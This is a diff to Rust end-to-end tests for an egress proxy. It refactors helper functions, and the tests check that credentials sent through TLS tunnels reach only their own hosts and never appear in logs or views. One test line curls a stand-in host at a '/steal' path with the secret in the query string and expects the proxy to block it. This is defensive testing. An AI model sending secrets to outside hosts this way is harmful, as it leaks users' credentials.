@@ -13,6 +13,7 @@
 
 use egress_e2e::credentials::{api_credential, file_source};
 use egress_e2e::harness::{proxy_section, TestProxy, TestRun};
+use egress_e2e::process::{client, Ran};
 use egress_e2e::tls_origin::{tls_origin, TlsOrigin};
 use egress_e2e::FakeDns;
 use egress_proxy::facts::MemorySink;
@@ -138,44 +139,6 @@ impl World {
     fn other_url(&self, path: &str) -> String {
         format!("https://other.example:{}{path}", self.other.addr.port())
     }
-
-    async fn facts(&self, reason: &str) -> Vec<Value> {
-        let (_, v) = self.p.control("GET", "/v1/facts?after=0&limit=1000", None).await;
-        v["facts"]
-            .as_array()
-            .unwrap()
-            .iter()
-            .filter(|f| f["reason"] == reason)
-            .cloned()
-            .collect()
-    }
-}
-
-/// What a client process printed, and how it ended.
-struct Ran {
-    ok: bool,
-    stdout: String,
-    stderr: String,
-}
-
-/// Runs a client with the run's `env` map only (plus `PATH`), as the
-/// executor would give it to a child.
-async fn client(env: &BTreeMap<String, String>, program: &str, args: &[&str]) -> Ran {
-    let mut cmd = std::process::Command::new(program);
-    cmd.args(args).env_clear().envs(env);
-    cmd.env("PATH", std::env::var("PATH").unwrap_or_default());
-    if let Ok(home) = std::env::var("HOME") {
-        cmd.env("HOME", home);
-    }
-    let out = tokio::task::spawn_blocking(move || cmd.output())
-        .await
-        .unwrap()
-        .unwrap_or_else(|e| panic!("{program}: {e}"));
-    Ran {
-        ok: out.status.success(),
-        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
-        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
-    }
 }
 
 /// curl through the run's proxy (from `HTTPS_PROXY`) trusting `CURL_CA_BUNDLE`;
@@ -284,7 +247,7 @@ async fn a_placeholder_inside_tls_to_another_host_is_credential_misuse() {
         "nothing reached the other host: {:?}",
         w.other.heads()
     );
-    let facts = w.facts("credential_misuse").await;
+    let facts = w.p.facts_with_reason("credential_misuse").await;
     assert_eq!(facts.len(), 2, "{facts:?}");
     assert_eq!(facts[0]["run_id"], run.as_str());
     let text = serde_json::to_string(&facts).unwrap();
@@ -330,7 +293,7 @@ async fn the_server_name_and_host_must_be_the_tunnel_s_host() {
         "only the last request arrived: {:?}",
         w.api.heads()
     );
-    let facts = w.facts("host_mismatch").await;
+    let facts = w.p.facts_with_reason("host_mismatch").await;
     assert_eq!(facts.len(), 2, "{facts:?}");
     assert!(
         facts.iter().any(|f| f["detail"]
@@ -430,7 +393,7 @@ async fn methods_apply_to_the_requests_inside_an_intercepted_tunnel() {
     );
     let heads = w.other.heads();
     assert_eq!(heads.len(), 1, "only the GET arrived: {heads:?}");
-    assert_eq!(w.facts("method_not_allowed").await.len(), 1);
+    assert_eq!(w.p.facts_with_reason("method_not_allowed").await.len(), 1);
 }
 
 #[tokio::test]
@@ -513,7 +476,7 @@ async fn the_secret_never_shows_in_facts_metrics_or_views() {
     for url in [w.api_url("/a"), w.other_url("/b")] {
         let _ = curl(&env, &url, &["-H", &auth]).await;
     }
-    assert_eq!(w.facts("credential_misuse").await.len(), 1);
+    assert_eq!(w.p.facts_with_reason("credential_misuse").await.len(), 1);
     let (_, facts) = w.p.control("GET", "/v1/facts?after=0&limit=1000", None).await;
     let (_, view) = w.p.control("GET", &format!("/v1/runs/{run}"), None).await;
     let (_, ca) = w.p.control("GET", "/v1/ca", None).await;
@@ -636,7 +599,7 @@ async fn the_real_value_inside_tls_goes_only_to_its_host() {
     let r = curl(&env, &w.other_url(&format!("/steal?k={SECRET}")), &[]).await;
     assert_eq!(status(&r), "403", "{}", r.stderr);
     assert!(w.other.heads().is_empty(), "{:?}", w.other.heads());
-    let facts = w.facts("credential_misuse").await;
+    let facts = w.p.facts_with_reason("credential_misuse").await;
     assert_eq!(facts.len(), 2, "{facts:?}");
     assert!(!serde_json::to_string(&facts).unwrap().contains(SECRET));
     // To its own host it is what the proxy writes anyway.
